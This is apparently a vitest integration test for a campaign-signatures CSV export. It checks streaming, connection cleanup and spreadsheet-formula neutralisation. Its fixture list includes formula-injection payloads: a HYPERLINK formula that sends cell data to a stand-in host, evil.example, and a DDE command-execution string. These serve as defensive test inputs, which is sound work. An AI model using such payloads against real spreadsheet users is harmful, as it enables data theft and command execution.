import { request } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Readable } from 'node:stream';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSignaturesService, type SignaturesService } from '../../src/campaigns/signatures.js';
import * as signaturesRepository from '../../src/campaigns/signatures.repository.js';
import type { SignatureStatus } from '../../src/db/rows.js';
import { staffToken } from '../helpers/api.js';
import { startTestApp, type TestApp } from '../helpers/app.js';
import { insertSigners, openCampaign } from '../helpers/campaigns.js';
import { createTestDatabase, type TestDatabase } from '../helpers/database.js';

let database: TestDatabase;
let signatures: SignaturesService;
let tricky: number;
let big: number;

/** Names that are hard to write as CSV or that a spreadsheet would run, with their status. */
const TRICKY: Array<[string | null, SignatureStatus]> = [
  ['Jane Smith', 'valid'],
  ['Jane "JJ" Smith', 'valid'],
  ['"', 'valid'],
  ['""', 'held'],
  ['Smith, Jane', 'valid'],
  [',', 'valid'],
  ['Line\nBreak', 'valid'],
  ['Windows\r\nBreak', 'hidden'],
  ['Trailing\n', 'valid'],
  ['=1+1', 'valid'],
  ['=HYPERLINK("http://evil.example/?"&A1,"Click")', 'valid'],
  ["=cmd|' /C calc'!A0", 'held'],
  ['+44', 'valid'],
  ['+1+2', 'valid'],
  ['-1', 'valid'],
  ['-2+3', 'late'],
  ['@cmd', 'valid'],
  ['@SUM(A1)', 'valid'],
  ['\tTabbed', 'valid'],
  ['\rReturn', 'valid'],
  ['\r\nBoth', 'valid'],
  ["'quoted already", 'valid'],
  [' =leading space', 'valid'],
  ['a=b', 'valid'],
  ['Анна Иванова', 'valid'],
  ['Анна-Мария', 'hidden'],
  ['"Анна", «Мария»', 'valid'],
  ['＝fullwidth', 'valid'],
  ['back\\slash', 'valid'],
  ['\\.', 'valid'],
  ['\\N', 'valid'],
  ['NULL', 'valid'],
  ['emoji ✊🏽', 'valid'],
  ['', 'valid'],
  [null, 'hidden'],
  [null, 'late'],
];

/** Signing times with microseconds, which Postgres keeps and the export cuts to milliseconds. */
const TIMES = [
  '2026-01-02 03:04:05.123999+00',
  '2026-01-02 03:04:05.000500+00',
  '2026-12-31 23:59:59.999999+00',
  '2026-06-15 12:00:00+02',
  '1999-02-03 04:05:06.7+00',
];

/** The export as it was written before Postgres wrote it: pages read in JS, stringified by csv-stringify. */
async function exportedInJs(campaignId: number, status?: SignatureStatus): Promise<string> {
  const spreadsheetSafe = (cell: string) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell);
  const rows = await signaturesRepository.signaturesAfterId(
    database.db,
    { campaignId, status },
    { afterId: 0, limit: 1_000_000 },
  );
  return stringify(
    rows.map((row, index) => [index + 1, row.name ?? '', row.status, row.signedAt.toISOString()]),
    {
      bom: true,
      header: true,
      columns: ['row', 'name', 'status', 'signed_at'],
      cast: { string: spreadsheetSafe },
    },
  );
}

async function text(stream: Readable): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(Buffer.from(chunk));
  return Buffer.concat(chunks).toString('utf8');
}

/** Connections of the pool checked out now. */
const checkedOut = () => database.pool.totalCount - database.pool.idleCount;

/** COPY statements running on this test's database. */
async function copiesRunning(): Promise<number> {
  const { rows } = await database.pool.query(
    `SELECT count(*)::int AS n FROM pg_stat_activity
      WHERE datname = current_database() AND pid <> pg_backend_pid() AND state = 'active' AND query LIKE 'COPY%'`,
  );
  return rows[0].n;
}

/** Waits until `check` holds, for a few seconds at most. */
async function eventually(check: () => Promise<boolean> | boolean): Promise<boolean> {
  for (let tries = 0; tries < 100; tries++) {
    if (await check()) return true;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  return false;
}

async function nothingLeft(): Promise<void> {
  expect(await eventually(async () => (await copiesRunning()) === 0)).toBe(true);
  expect(await eventually(() => checkedOut() === 0)).toBe(true);
}

beforeAll(async () => {
  database = await createTestDatabase();
  signatures = createSignaturesService({ db: database.db, pool: database.pool, clock: () => new Date() });
  const letter = { body: 'Please act.' };
  const targets = [{ name: 'Prosecutor General', salutation: 'Dear Sir', faxNumbers: ['+442079460111'] }];
  tricky = (await openCampaign(database, { keyword: 'Tricky', title: 'Tricky names', letter, targets })).id;
  big = (await openCampaign(database, { keyword: 'Big', title: 'Many names', letter, targets })).id;
  for (const [index, [name, status]] of TRICKY.entries()) {
    await database.pool.query(
      `WITH s AS (INSERT INTO supporters (source) VALUES ('import:test') RETURNING id)
       INSERT INTO signatures (campaign_id, supporter_id, name, status, signed_at)
       SELECT $1, id, $2, $3, $4 FROM s`,
      [tricky, name, status, TIMES[index % TIMES.length]],
    );
  }
  // More than the socket buffers hold, so that a download stopped early stops a COPY still running.
  await insertSigners(database, big, 300_000);
}, 120_000);

afterAll(async () => {
  await database?.drop();
});

describe('the signatures CSV written by Postgres', () => {
  it('is byte for byte the CSV the export wrote in JS, for every status and for all', async () => {
    for (const status of [undefined, 'valid', 'held', 'hidden', 'late'] as const) {
      const { stream } = await signatures.exportCsv(tricky, status);
      expect(await text(stream)).toBe(await exportedInJs(tricky, status));
    }
    expect(checkedOut()).toBe(0);
  });

  it('neutralises formulas and shows an erased name as an empty cell', async () => {
    const csv = await text((await signatures.exportCsv(tricky, 'valid')).stream);
    expect(
      csv.startsWith('\uFEFFrow,name,status,signed_at\n1,Jane Smith,valid,2026-01-02T03:04:05.123Z\n'),
    ).toBe(true);
    for (const line of [
      `,'=1+1,valid,`,
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`,
      `,'+44,valid,`,
      `,'-1,valid,`,
      `,'@cmd,valid,`,
      `,'\tTabbed,valid,`,
      `,"'\rReturn",valid,`,
      `,,valid,`,
    ])
      expect(csv).toContain(line);
  });

  it('is only a header for a campaign nobody signed', async () => {
    const letter = { body: 'Please act.' };
    const targets = [{ name: 'Mayor', salutation: 'Dear Mayor', faxNumbers: ['+442079460112'] }];
    const empty = (await openCampaign(database, { keyword: 'Empty', title: 'Nobody', letter, targets })).id;
    const csv = await text((await signatures.exportCsv(empty)).stream);
    expect(csv).toBe('\uFEFFrow,name,status,signed_at\n');
    expect(csv).toBe(await exportedInJs(empty));
  });

  it('streams a large campaign whole, and gives its connection back', async () => {
    const csv = await text((await signatures.exportCsv(big)).stream);
    const lines = csv.split('\n');
    expect(lines).toHaveLength(300_000 + 2);
    expect(lines.at(-2)?.startsWith('300000,Signer daaaaa,valid,')).toBe(true);
    await nothingLeft();
  });

  it('stops the COPY and gives its connection back when the stream is destroyed half way', async () => {
    const { stream } = await signatures.exportCsv(big);
    await new Promise((resolve) => stream.once('readable', resolve));
    expect(stream.read()).not.toBeNull();
    expect(await copiesRunning()).toBe(1);
    stream.destroy();
    await nothingLeft();
    expect(await text((await signatures.exportCsv(tricky, 'late')).stream)).toBe(
      await exportedInJs(tricky, 'late'),
    );
    expect(checkedOut()).toBe(0);
  });
});

describe('GET /api/v1/campaigns/:id/signatures.csv, the client gone mid-download', () => {
  let server: TestApp;
  let port: number;
  let token: string;

  beforeAll(async () => {
    server = await startTestApp(database);
    await server.app.listen({ host: '127.0.0.1', port: 0 });
    port = (server.app.server.address() as AddressInfo).port;
    token = (await staffToken(database, 'viewer')).token;
  });

  afterAll(async () => {
    await server?.close();
  });

  function download(campaignId: number, onFirstChunk: 'abort' | 'read'): Promise<number> {
    return new Promise((resolve, reject) => {
      const req = request(
        {
          port,
          host: '127.0.0.1',
          path: `/api/v1/campaigns/${campaignId}/signatures.csv`,
          headers: { authorization: `Bearer ${token}` },
        },
        (response) => {
          expect(response.statusCode).toBe(200);
          let bytes = 0;
          response.on('data', (chunk: Buffer) => {
            bytes += chunk.length;
            if (onFirstChunk === 'abort') {
              req.destroy();
              resolve(bytes);
            }
          });
          response.on('end', () => resolve(bytes));
          response.on('error', () => {});
        },
      );
      req.on('error', (error) => onFirstChunk === 'read' && reject(error));
      req.end();
    });
  }

  it('leaves no COPY running and no connection checked out, and the next export works', async () => {
    expect(await download(big, 'abort')).toBeGreaterThan(0);
    await nothingLeft();
    const whole = await download(tricky, 'read');
    expect(whole).toBe(Buffer.byteLength(await exportedInJs(tricky)));
    await nothingLeft();
  });
});
